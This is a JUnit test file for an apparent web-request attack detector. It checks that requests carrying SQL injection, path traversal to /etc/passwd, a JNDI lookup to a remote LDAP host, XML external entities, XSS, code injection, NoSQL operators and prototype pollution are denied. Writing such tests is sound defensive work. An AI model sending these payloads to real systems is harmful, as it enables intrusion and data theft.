package dev.portcullis.attack;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.portcullis.Header;
import dev.portcullis.Reply;
import dev.portcullis.Route;
import dev.portcullis.Verdict;
import dev.portcullis.http.RecordedWire;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;

class AttacksTest {

    private static final String FORM = "application/x-www-form-urlencoded";

    private final Attacks attacks = Attacks.builder().build();

    private static RecordedWire post(String type, String body) {
        return RecordedWire.of("POST", "/orders")
                .with("Content-Type", type)
                .with("Content-Length", String.valueOf(body.length()))
                .body(body);
    }

    private Verdict.Deny denial(RecordedWire wire) {
        var verdict = attacks.check(wire.view());
        assertThat(verdict).isInstanceOf(Verdict.Deny.class);
        return (Verdict.Deny) verdict;
    }

    /** An array in JSON that holds the text so many times. */
    private static String quoted(String text, int times) {
        var one = "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
        return "[" + (one + ",").repeat(times - 1) + one + "]";
    }

    @Test
    void looksThroughSomeEncodingsInOneAnotherAndDeniesMore() {
        var few = quoted(quoted(quoted("a plain text, %41gain; ".repeat(20), 50), 1), 1);
        var many = quoted(quoted(quoted("a plain text, %25252541gain; ".repeat(200), 50), 1), 1);

        assertThat(attacks.check(post("application/json", few).view())).isInstanceOf(Verdict.Pass.class);
        assertThat(denial(post("application/json", many)).evidence().reason()).isEqualTo("layers");
    }

    @Test
    void looksThroughJsonInJsonOfAnyLength() {
        var text = "a plain text that goes on and on ".repeat(9_000);

        var body = quoted(quoted(quoted(quoted(text, 1), 1), 1), 1);

        assertThat(attacks.check(post("application/json", body).view())).isInstanceOf(Verdict.Pass.class);
    }

    @Test
    void passesAPlainRequest() {
        var request = RecordedWire.of("GET", "/orders/7?page=2&sort=name")
                .with("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
                .view();

        assertThat(attacks.check(request)).isSameAs(Verdict.pass());
    }

    @Test
    void deniesAnAttackInTheQuery() {
        var deny = denial(RecordedWire.of("GET", "/orders?q=1%27%20or%20%271%27=%271"));

        assertThat(deny.reply()).isEqualTo(Reply.problem(403, "attack-detected"));
        assertThat(deny.evidence().reason()).isEqualTo("sql-injection");
        assertThat(deny.evidence().matched()).containsExactly("sql-injection");
        assertThat(deny.evidence().detail()).isEqualTo("query parameter `q`: `1' or '1'='1`");
    }

    @Test
    void deniesAnAttackInAForm() {
        assertThat(denial(post(FORM, "id=1&file=..%2F..%2Fetc%2Fpasswd"))
                        .evidence()
                        .detail())
                .startsWith("form parameter `file`");
    }

    @Test
    void deniesAnAttackInJson() {
        assertThat(denial(post("application/json", "{\"a\": {\"q\": [1, \"1' or '1'='1\"]}}"))
                        .evidence()
                        .detail())
                .startsWith("JSON member `q`");
    }

    @Test
    void deniesAnAttackThatIsEncodedTwice() {
        assertThat(denial(RecordedWire.of("GET", "/?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd"))
                        .evidence()
                        .reason())
                .isEqualTo("path-traversal");
    }

    @Test
    void deniesALongerBodyThanItReads() {
        var small = Attacks.builder().maxBytes(10).build();

        var verdict = small.check(post(FORM, "comment=longer").view());

        assertThat(((Verdict.Deny) verdict).reply().status()).isEqualTo(413);
    }

    @Test
    void doesNotReadOtherMediaTypes() {
        assertThat(attacks.check(post("text/plain", "1' or '1'='1").view())).isSameAs(Verdict.pass());
    }

    @Test
    void deniesJsonThatCannotBeRead() {
        assertThat(denial(post("application/json", "{\"a\": 1, \"a\": 2}")).reply())
                .isEqualTo(Reply.problem(400, "malformed-body"));
    }

    @Test
    void readsJsonUnderEveryNameOfIts() {
        for (var type : List.of("application/merge-patch+json", "text/json", "APPLICATION/JSON; charset=UTF-8")) {
            assertThat(denial(post(type, "[\"1' or '1'='1\"]")).reply().code()).isEqualTo("attack-detected");
        }
    }

    @Test
    void deniesACharsetInWhichAnAttackCouldHide() {
        assertThat(denial(post(FORM + "; charset=ibm037", "a=b")).reply().status())
                .isEqualTo(415);
        assertThat(denial(post(FORM + "; charset=utf-16", "a=b")).reply().status())
                .isEqualTo(415);
        assertThat(attacks.check(post(FORM + "; charset=ISO-8859-1", "a=b").view()))
                .isSameAs(Verdict.pass());
    }

    @Test
    void deniesAnEncodedBodyThatItIsMeantToRead() {
        var deny = denial(post("application/json", "{}").with("Content-Encoding", "gzip"));

        assertThat(deny.reply().status()).isEqualTo(415);
        assertThat(deny.reply().headers()).contains(new Header("Accept-Encoding", "identity"));
    }

    @Test
    void deniesABodyOfAnUnreadableMediaType() {
        assertThat(denial(post("application/json;;=", "{}")).reply().status()).isEqualTo(415);
    }

    @Test
    void looksAtTheTailOfALongValue() {
        var padding = "lorem ipsum ".repeat(5_000);

        assertThat(denial(post(FORM, "q=" + padding + "' or 1=1 --")).evidence().matched())
                .contains("sql-injection");
        assertThat(attacks.check(post(FORM, "q=" + padding).view())).isSameAs(Verdict.pass());
    }

    @Test
    void looksAtTheLastOfManyParameters() {
        var query = "a=1&".repeat(2_000) + "q=../../etc/passwd";

        assertThat(denial(RecordedWire.of("GET", "/?" + query)).evidence().detail())
                .startsWith("query parameter `q`");
    }

    @Test
    void looksAtNamesAsWellAsValues() {
        assertThat(denial(RecordedWire.of("GET", "/?%3Cscript%3E=1")).evidence().detail())
                .startsWith("name of query parameter `<script>`");
        assertThat(denial(post("application/json", "{\"$where\": \"1\"}"))
                        .evidence()
                        .reason())
                .isEqualTo("nosql-injection");
    }

    @Test
    void looksAtCookiesAndAtHeadersThatApplicationsRead() {
        var wire = RecordedWire.of("GET", "/");

        assertThat(denial(wire.with("Cookie", "a=b; track=1'+or+'1'='1"))
                        .evidence()
                        .detail())
                .startsWith("cookie `track`");
        assertThat(denial(wire.with("x-client", "${jndi:ldap://203.0.113.7/a}"))
                        .evidence()
                        .detail())
                .startsWith("header `x-client`");
        assertThat(denial(wire.with("User-Agent", "${jndi:ldap://203.0.113.7/a}"))
                        .evidence()
                        .reason())
                .isEqualTo("jndi-lookup");
    }

    @Test
    void doesNotLookAtStandardHeaders() {
        var request = RecordedWire.of("GET", "/")
                .with("Accept", "text/html,application/xml;q=0.9,*/*;q=0.8")
                .with("Authorization", "Digest username='x' or '1'='1'")
                .with("If-None-Match", "\"a\" or \"1\"=\"1\"")
                .view();

        assertThat(attacks.check(request)).isSameAs(Verdict.pass());
    }

    @Test
    void namesAllDetectorsThatSpeak() {
        var deny = denial(RecordedWire.of("GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E%27;system(%27id%27)"));

        assertThat(deny.evidence().matched()).containsSequence("cross-site-scripting", "code-injection");
    }

    @Test
    void boundsItsEvidence() {
        var name = "n".repeat(5_000);
        var deny = denial(RecordedWire.of("GET", "/?" + name + "=%27%20or%201=1%20--" + "x".repeat(5_000)));

        assertThat(deny.evidence().detail()).hasSizeLessThan(300);
    }

    @Test
    void theStricterLevelDeniesFainterHints() {
        var request = RecordedWire.of("GET", "/?q=%3Csvg%3E");

        assertThat(attacks.check(request.view())).isSameAs(Verdict.pass());
        assertThat(Attacks.builder().level(Level.STRICT).build().check(request.view()))
                .isInstanceOf(Verdict.Deny.class);
    }

    @Test
    void theLowerLevelPassesWhatAuthorsOfCodeSend() {
        var request = RecordedWire.of("GET", "/?q=%3Cscript%20src=a.js%3E");

        assertThat(attacks.check(request.view())).isInstanceOf(Verdict.Deny.class);
        assertThat(Attacks.builder().level(Level.LOW).build().check(request.view()))
                .isSameAs(Verdict.pass());
    }

    @Test
    void deniesAnAttackInTheTextAndTheAttributesOfXml() {
        var text = denial(post("application/xml", "<order><note>1' or '1'='1</note></order>"));
        var attribute = denial(post("application/soap+xml", "<a:order b:file='../../../etc/passwd'/>"));

        assertThat(text.evidence().detail()).startsWith("XML element or attribute `note`");
        assertThat(attribute.evidence().reason()).isEqualTo("path-traversal");
    }

    @Test
    void deniesADocumentTypeInXmlAndLooksNothingUp() {
        var external = "<!DOCTYPE a [<!ENTITY b SYSTEM 'http://127.0.0.1:1/x'>]><a>&b;</a>";
        var bomb = "<!DOCTYPE a [<!ENTITY b 'bb'><!ENTITY c '&b;&b;'>]><a>&c;</a>";

        assertThat(denial(post("text/xml", external)).evidence().reason()).isEqualTo("xml-entity");
        assertThat(denial(post("text/xml", bomb)).evidence().reason()).isEqualTo("xml-entity");
        assertThat(denial(post("text/xml", "<?xml version='1.0'?>\n<!-- > --><!DOCTYPE a [<!ENTITY"))
                        .evidence()
                        .reason())
                .isEqualTo("xml-entity");
        assertThat(denial(post("image/svg+xml", "<!DOCTYPE svg><svg/>"))
                        .evidence()
                        .reason())
                .isEqualTo("xml-entity");
    }

    @Test
    void deniesXmlThatCannotBeRead() {
        assertThat(denial(post("application/xml", "<a><b></a>")).reply().status())
                .isEqualTo(400);
        assertThat(denial(post("application/xml", "<a>".repeat(65) + "</a>".repeat(65)))
                        .reply()
                        .code())
                .isEqualTo("malformed-body");
        assertThat(denial(post("application/xml", "\u0000<\u0000a")).reply().code())
                .isEqualTo("malformed-body");
        assertThat(denial(post("application/xml", "<?xml version='1.0' encoding='UTF-16'?><a/>"))
                        .reply()
                        .code())
                .isEqualTo("malformed-body");
    }

    @Test
    void xmlWithBrokenBytesIsDeniedWithNothingPrinted() {
        var printed = new java.io.ByteArrayOutputStream();
        var before = System.err;
        System.setErr(new java.io.PrintStream(printed, true, UTF_8));
        try {
            var wire = RecordedWire.of("POST", "/orders")
                    .with("Content-Type", "application/xml")
                    .with("Content-Length", "9")
                    .body(new byte[] {'<', 'a', '>', (byte) 0xff, (byte) 0xfe, '<', '/', 'a', '>'});
            assertThat(denial(wire).reply().code()).isEqualTo("malformed-body");
        } finally {
            System.setErr(before);
        }
        assertThat(printed.toString(UTF_8)).doesNotContain("Fatal Error");
    }

    @Test
    void passesPlainXml() {
        var request = post("application/xml", "<order id=\"7\"><note>O'Reilly &amp; sons &lt;3</note></order>");

        assertThat(attacks.check(request.view())).isSameAs(Verdict.pass());
    }

    @Test
    void deniesAPrototypeThatJsonHidesInTwoMembers() {
        assertThat(denial(post("application/json", "{\"constructor\": {\"prototype\": {\"admin\": true}}}"))
                        .evidence()
                        .reason())
                .isEqualTo("prototype-pollution");
        assertThat(attacks.check(post("application/json", "{\"constructor\": \"Ferrari\"}")
                        .view()))
                .isSameAs(Verdict.pass());
    }

    @Test
    void aPathOfTheApplicationsOwnIsNoProbe() {
        var probe = RecordedWire.of("GET", "/actuator/env");

        assertThat(attacks.check(probe.view())).isInstanceOf(Verdict.Deny.class);
        assertThat(attacks.check(
                        probe.to(new Route("env", "/actuator/env", Map.of())).view()))
                .isSameAs(Verdict.pass());
        assertThat(attacks.check(
                        probe.to(new Route("any", "/{*path}", Map.of())).view()))
                .isInstanceOf(Verdict.Deny.class);
    }

    @Test
    void looksForRedirectsWhereItIsTold() {
        var away = RecordedWire.of("GET", "/login?next=//evil.example/");
        var redirects = Attacks.builder().only(Set.of("open-redirect")).build();

        assertThat(attacks.check(away.view())).isSameAs(Verdict.pass());
        assertThat(redirects.check(away.view())).isInstanceOf(Verdict.Deny.class);
        assertThat(redirects.check(
                        RecordedWire.of("GET", "/login?name=//evil.example/").view()))
                .isSameAs(Verdict.pass());
        assertThat(redirects.check(RecordedWire.of("GET", "/login?next=/orders").view()))
                .isSameAs(Verdict.pass());
    }

    private static RecordedWire multipart(String body) {
        return RecordedWire.of("POST", "/posts")
                .with("Content-Type", "multipart/form-data; boundary=b")
                .body(body.replace("\n", "\r\n"));
    }

    @Test
    void readsFieldsAndFileNamesOfMultipartFormsWhereItIsTold() {
        var field = "--b\nContent-Disposition: form-data; name=\"q\"\n\n1' or '1'='1\n--b--\n";
        var file =
                "--b\nContent-Disposition: form-data; name=\"f\"; filename=\"<script>alert(1)<script>.png\"\n\nx\n--b--\n";
        var good = "--b\nContent-Disposition: form-data; name=\"q\"\n\nblue shoes\n--b\n"
                + "Content-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\n\n1' or '1'='1\n--b--\n";
        var reading = Attacks.builder().multipart().build();

        assertThat(attacks.check(multipart(field).view())).isSameAs(Verdict.pass());
        assertThat(reading.check(multipart(field).view())).isInstanceOf(Verdict.Deny.class);
        assertThat(reading.check(multipart(file).view())).isInstanceOf(Verdict.Deny.class);
        assertThat(reading.check(multipart(good).view())).isSameAs(Verdict.pass());
    }

    @Test
    void boundsTheFieldsOfMultipartForms() {
        var longer = "--b\nContent-Disposition: form-data; name=\"q\"\n\n" + "a".repeat(200) + "\n--b--\n";
        var reading = Attacks.builder().multipart().maxBytes(100).build();

        assertThat(((Verdict.Deny) reading.check(multipart(longer).view()))
                        .reply()
                        .status())
                .isEqualTo(413);
    }

    @Test
    void readsJsonThatIsWrittenInAValue() {
        var nested = RecordedWire.of("POST", "/x")
                .with("Content-Type", "application/json")
                .body("{\"payload\": \"{\\\"a\\\": [{\\\"file\\\": \\\"/etc/passwd\\\"}]}\"}");
        var query = RecordedWire.of("GET", "/x?filter=%7B%22name%22%3A%7B%22%24ne%22%3Anull%7D%7D");

        assertThat(attacks.check(nested.view())).isInstanceOf(Verdict.Deny.class);
        assertThat(attacks.check(query.view())).isInstanceOf(Verdict.Deny.class);
    }

    @Test
    void listsItsDetectorsByStableIds() {
        assertThat(Attacks.detectors())
                .containsExactlyInAnyOrder(
                        "code-injection",
                        "command-injection",
                        "cross-site-scripting",
                        "exploit-path",
                        "graphql-abuse",
                        "header-injection",
                        "java-deserialisation",
                        "jndi-lookup",
                        "ldap-injection",
                        "log-injection",
                        "mail-injection",
                        "nosql-injection",
                        "open-redirect",
                        "path-traversal",
                        "prototype-pollution",
                        "remote-file",
                        "scanner",
                        "server-request",
                        "server-side-include",
                        "sql-injection",
                        "template-injection",
                        "xml-entity",
                        "xpath-injection");
    }

    @Test
    void refusesABoundThatReadsNothing() {
        var builder = Attacks.builder();

        assertThatThrownBy(() -> builder.maxBytes(0))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessage("maxBytes: 0 (expected: >= 1)");
    }

    @Test
    void anExcludedParameterIsNotLookedAtByThatDetector() {
        var excluding =
                Attacks.builder().exclude(Exclusion.of("sql-injection", "q")).build();

        assertThat(excluding.check(
                        RecordedWire.of("GET", "/?q=1%27+or+%271%27=%271").view()))
                .isSameAs(Verdict.pass());
        assertThat(excluding.check(
                        RecordedWire.of("GET", "/?q=../../etc/passwd").view()))
                .isInstanceOf(Verdict.Deny.class);
        assertThat(excluding.check(
                        RecordedWire.of("GET", "/?r=1%27+or+%271%27=%271").view()))
                .isInstanceOf(Verdict.Deny.class);
    }

    @Test
    void refusesToExcludeADetectorThatDoesNotExist() {
        assertThatThrownBy(() -> Exclusion.of("sqli", "q"))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageStartingWith("detector: `sqli` (expected: one of [");
    }
}
